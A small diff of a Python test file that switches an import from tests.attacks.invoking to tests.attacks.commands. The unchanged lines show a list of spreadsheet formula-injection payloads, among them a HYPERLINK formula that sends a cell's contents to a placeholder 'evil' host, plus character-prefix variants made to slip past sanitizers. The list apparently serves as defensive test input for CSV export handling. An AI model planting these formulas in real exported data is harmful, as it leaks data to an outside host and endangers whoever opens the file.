@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from tests.attacks.invoking import invoke, lines
+from tests.attacks.commands import invoke, lines
 
 FORMULAS = [
     '=HYPERLINK("http://evil/"&A1)', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\x00=1", "\ufeff=1",
